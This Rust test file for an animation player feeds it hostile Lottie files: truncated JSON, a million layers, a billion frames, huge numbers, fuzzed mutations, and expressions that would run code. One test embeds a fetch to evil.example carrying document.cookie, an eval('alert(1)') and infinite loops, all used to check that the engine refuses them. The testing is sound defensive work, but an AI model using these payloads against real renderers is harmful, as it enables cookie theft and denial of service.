//! Hostile templates (issue "Privacy and security proof"): malformed and
//! truncated files, huge numbers, a million layers, a billion frames, huge
//! images, expressions that try to run code, and random mutations of real
//! animations. Each loads with a stable error code or draws within the
//! frame's work budget; nothing panics, hangs or evaluates code. The limits
//! are docs/limits.md's.

#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests"
)]

use std::path::Path;
use std::time::{Duration, Instant};

use player::display_list::DisplayItem;
use player::eval::{evaluate, WORK_BUDGET};
use player::geometry::Affine;
use player::lottie::{Composition, MAX_LAYERS};
use player::overrides::Overrides;
use proptest::prelude::*;

/// Loads `json` and, when it loads, evaluates a few frames: never a panic,
/// the work within budget.
fn load_and_draw(json: &str) -> Result<usize, &'static str> {
    let comp = Composition::from_json(json).map_err(|e| e.code())?;
    let overrides = Overrides::new(comp.text_slots);
    let mut items = 0;
    for frame in [
        comp.in_point,
        (comp.in_point + comp.out_point) / 2.0,
        comp.out_point - 1.0,
    ] {
        let list = evaluate(&comp, frame, &overrides, Affine::IDENTITY);
        assert!(list.work <= WORK_BUDGET);
        items += list.items.len();
    }
    Ok(items)
}

fn demo(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../www/templates")
        .join(name);
    std::fs::read_to_string(path.join("animation.json")).unwrap()
}

#[test]
fn malformed_and_truncated_files_get_stable_codes() {
    let animation = demo("member");
    for cut in [
        0,
        1,
        10,
        animation.len() / 3,
        animation.len() / 2,
        animation.len() - 2,
    ] {
        assert_eq!(
            load_and_draw(&animation[..cut]),
            Err("animation-syntax"),
            "cut at {cut}"
        );
    }
    for (json, code) in [
        ("[]", "animation-invalid"),
        ("null", "animation-invalid"),
        (r#"{"w": 100}"#, "animation-invalid"),
        (
            r#"{"w": -1, "h": 1, "fr": 30, "ip": 0, "op": 1, "layers": []}"#,
            "animation-invalid",
        ),
        (
            r#"{"w": 1, "h": 1, "fr": 0, "ip": 0, "op": 1, "layers": []}"#,
            "animation-invalid",
        ),
        (
            r#"{"w": 1, "h": 1, "fr": 30, "ip": 5, "op": 5, "layers": []}"#,
            "animation-invalid",
        ),
        // A number beyond f64 is not JSON this parser takes.
        (
            r#"{"w": 1e999, "h": 1, "fr": 30, "ip": 0, "op": 1, "layers": []}"#,
            "animation-syntax",
        ),
    ] {
        assert_eq!(load_and_draw(json), Err(code), "{json}");
    }
}

#[test]
fn a_million_layers_are_refused_quickly() {
    let layer = r#"{"ty":3,"ks":{}},"#;
    let json = String::from(r#"{"w":9,"h":9,"fr":30,"ip":0,"op":9,"layers":["#)
        + &layer.repeat(1_000_000)
        + r#"{"ty":3}]}"#;
    let start = Instant::now();
    assert_eq!(load_and_draw(&json), Err("animation-too-large"));
    const { assert!(MAX_LAYERS < 1_000_000) };
    // Generous for a debug build on a busy 2-core machine; a hang would not pass.
    assert!(start.elapsed() < Duration::from_secs(60));
}

#[test]
fn a_hundred_thousand_slots_load_quickly_and_bind_only_up_to_the_cap() {
    // Every fill with its own slot id, and as many slots defined.
    let fill =
        |i: usize| format!(r#"{{"ty":"fl","c":{{"sid":"s{i}","k":[1,0,0,1]}},"o":{{"k":100}}}}"#);
    let fills: Vec<String> = (0..100_000).map(fill).collect();
    let slots: Vec<String> = (0..100_000)
        .map(|i| format!(r#""s{i}":{{"p":{{"k":[0,0,1,1]}}}}"#))
        .collect();
    let json = format!(
        r#"{{"w":9,"h":9,"fr":30,"ip":0,"op":9,"slots":{{{}}},"layers":[{{"ty":4,"ip":0,"op":9,"st":0,"ks":{{}},
           "shapes":[{{"ty":"rc","p":{{"k":[0,0]}},"s":{{"k":[4,4]}},"r":{{"k":0}}}},{}]}}]}}"#,
        slots.join(","),
        fills.join(",")
    );
    let start = Instant::now();
    let comp = Composition::from_json(&json).unwrap();
    assert_eq!(comp.slots.len(), player::lottie::MAX_SLOTS);
    assert!(comp.warnings.iter().any(|w| w.code == "too-many-slots"));
    let list = evaluate(&comp, 0.0, &Overrides::default(), Affine::IDENTITY);
    assert!(list.work <= WORK_BUDGET);
    assert!(start.elapsed() < Duration::from_secs(60));
}

#[test]
fn a_billion_frames_and_huge_numbers_draw_within_the_budget() {
    // A billion frames at a million frames per second, a shape scaled a
    // billion times, positions at the edge of f64, a huge image asset.
    let json = r#"{"w":100,"h":100,"fr":1e6,"ip":0,"op":1e9,
        "assets":[{"id":"img","w":1e12,"h":1e12,"p":"data:image/png;base64,AA=="}],
        "layers":[
          {"ty":4,"ip":0,"op":1e9,"st":0,"ks":{"s":{"k":[1e9,1e9]},"p":{"k":[1e308,-1e308]}},
           "shapes":[{"ty":"rc","p":{"k":[0,0]},"s":{"k":[1e300,1e300]},"r":{"k":0}},{"ty":"fl","c":{"k":[1,0,0,1]},"o":{"k":100}}]},
          {"ty":2,"refId":"img","ip":0,"op":1e9,"st":0,"ks":{}},
          {"ty":4,"ip":0,"op":1e9,"st":0,"ks":{},
           "shapes":[{"ty":"sr","sy":1,"pt":{"k":1e12},"p":{"k":[0,0]},"r":{"k":0},"or":{"k":10},"os":{"k":0},"ir":{"k":5},"is":{"k":0}},
                     {"ty":"rp","c":{"k":1e9},"o":{"k":0},"tr":{"p":{"k":[1,0]},"s":{"k":[100,100]},"r":{"k":0},"a":{"k":[0,0]},"so":{"k":100},"eo":{"k":100}}},
                     {"ty":"fl","c":{"k":[0,0,1,1]},"o":{"k":100}}]}
        ]}"#;
    let start = Instant::now();
    let comp = Composition::from_json(json).unwrap();
    for frame in [0.0, 5e8, 1e9 - 1.0] {
        let list = evaluate(&comp, frame, &Overrides::default(), Affine::IDENTITY);
        assert!(list.work <= WORK_BUDGET);
        for item in &list.items {
            if let DisplayItem::Fill { transform, .. } | DisplayItem::Image { transform, .. } = item
            {
                assert!(transform.is_finite(), "{item:?}");
            }
        }
    }
    assert!(start.elapsed() < Duration::from_secs(60));
}

#[test]
fn hostile_expressions_reach_nothing_and_fall_back() {
    // lottie-web would eval these. The engine has no `fetch`, `document`
    // or `window`, its `eval` only looks up name paths in the animation
    // (`document.cookie` is none: an abort), and it aborts loops and
    // recursion past its budget:
    // each property is drawn without its expression, and the report says
    // why. Two layers whose positions read each other stop at the cycle.
    let json = r#"{"w":100,"h":100,"fr":30,"ip":0,"op":10,"layers":[
        {"ty":4,"nm":"Trap","ip":0,"op":10,"st":0,
         "ks":{"p":{"k":[50,50],"x":"fetch('https://evil.example/?'+document.cookie); [0,0]"},
               "o":{"k":100,"x":"eval('document.cookie'); eval('alert(1)'); 100"},
               "r":{"k":0,"x":"var i = 0; while (true) { i++; } i"},
               "s":{"k":[100,100],"x":"function f(n) { return f(n + 1); } f(0)"}},
         "shapes":[{"ty":"rc","p":{"k":[0,0]},"s":{"k":[10,10]},"r":{"k":0}},{"ty":"fl","c":{"k":[1,0,0,1]},"o":{"k":100}}]},
        {"ty":3,"nm":"A","ip":0,"op":10,"st":0,"ks":{"p":{"k":[1,1],"x":"thisComp.layer('B').transform.position"}}},
        {"ty":3,"nm":"B","ip":0,"op":10,"st":0,"ks":{"p":{"k":[2,2],"x":"thisComp.layer('A').transform.position"}}}]}"#;
    let comp = Composition::from_json(json).unwrap();
    let start = Instant::now();
    let list = evaluate(&comp, 0.0, &Overrides::default(), Affine::IDENTITY);
    assert!(start.elapsed() < Duration::from_secs(10));
    let DisplayItem::Fill { transform, .. } = &list.items[0] else {
        panic!("{:?}", list.items)
    };
    // The static position (50, 50), as written in `k`, unrotated, unscaled.
    assert_eq!(transform.0, [1.0, 0.0, 0.0, 1.0, 50.0, 50.0]);
    let report = player::report::Report::of(json);
    assert_eq!(report.expressions.len(), 6);
    let why = |property: &str| {
        report
            .expressions
            .iter()
            .find(|e| e.layer == "Trap" && e.property == property)
            .and_then(|e| e.falls_back.clone())
            .unwrap_or_default()
    };
    assert!(
        why("ks.p").contains("`fetch` is not supported"),
        "{}",
        why("ks.p")
    );
    // (The lookup names what it did not find.)
    assert!(
        why("ks.o").contains("`document` is not supported"),
        "{}",
        why("ks.o")
    );
    assert!(why("ks.r").contains("out of steps"), "{}", why("ks.r"));
    assert!(why("ks.s").contains("TooDeep"), "{}", why("ks.s"));
}

/// Random edits of the demo animations: a span replaced by random text, a
/// number changed to a huge, tiny or negative one, a value replaced by
/// another JSON type.
fn mutate(text: &str, at: usize, cut: usize, insert: &str) -> String {
    let mut chars: Vec<char> = text.chars().collect();
    let start = at % (chars.len() + 1);
    let end = (start + cut).min(chars.len());
    chars.splice(start..end, insert.chars());
    chars.into_iter().collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn mutated_animations_load_or_fail_with_a_code(
        which in 0usize..4,
        at in any::<usize>(),
        cut in 0usize..24,
        insert in prop_oneof![
            Just("1e308".to_owned()), Just("-1e308".to_owned()), Just("0".to_owned()),
            Just("-1".to_owned()), Just("null".to_owned()), Just("[]".to_owned()),
            Just("{}".to_owned()), Just("\"x\"".to_owned()), Just("true".to_owned()),
            Just("[[[[[[[[".to_owned()), ".{0,8}",
        ],
    ) {
        let name = ["greeting", "balance", "footage", "member"][which];
        let edited = mutate(&demo(name), at, cut, &insert);
        match load_and_draw(&edited) {
            Ok(_) => {}
            Err(code) => prop_assert!(code.starts_with("animation-"), "{}", code),
        }
    }

    #[test]
    fn random_layers_never_panic(
        ty in -2i64..16,
        values in prop::collection::vec(prop_oneof![
            Just(f64::MAX), Just(-f64::MAX), Just(0.0), Just(-0.0), Just(1e-300),
            -1e6f64..1e6,
        ], 8),
        keyframed in any::<bool>(),
    ) {
        let v = |i: usize| values[i % values.len()];
        let property = |i: usize| if keyframed {
            format!(r#"{{"a":1,"k":[{{"t":{},"s":[{},{}],"o":{{"x":[{}],"y":[0]}},"i":{{"x":[1],"y":[1]}}}},{{"t":{},"s":[{},{}]}}]}}"#,
                v(i), v(i + 1), v(i + 2), v(i + 3), v(i + 4), v(i + 5), v(i + 6))
        } else {
            format!(r#"{{"k":[{},{}]}}"#, v(i), v(i + 1))
        };
        let json = format!(
            r##"{{"w":100,"h":100,"fr":30,"ip":0,"op":30,"layers":[{{"ty":{ty},"ip":0,"op":30,"st":0,"sr":{},
               "ks":{{"p":{},"s":{},"a":{},"r":{},"o":{}}},"w":{},"h":{},"sw":{},"sh":{},"sc":"#ff0000",
               "t":{{"d":{{"k":[{{"t":0,"s":{{"t":"Hi","s":{},"f":"F","fc":[0,0,0]}}}}]}}}},
               "shapes":[{{"ty":"el","p":{},"s":{}}},{{"ty":"st","c":{{"k":[0,0,0,1]}},"o":{{"k":100}},"w":{}}},
                         {{"ty":"tm","s":{},"e":{},"o":{}}},{{"ty":"fl","c":{{"k":[1,0,0,1]}},"o":{{"k":100}}}}]}}]}}"##,
            v(0), property(1), property(2), property(3), property(4), property(5),
            v(6), v(7), v(0), v(1), v(2), property(3), property(4), property(5), property(6), property(7), property(0)
        );
        // Loads (the JSON is well formed) or fails with a code; draws in budget.
        let _ = load_and_draw(&json);
    }
}
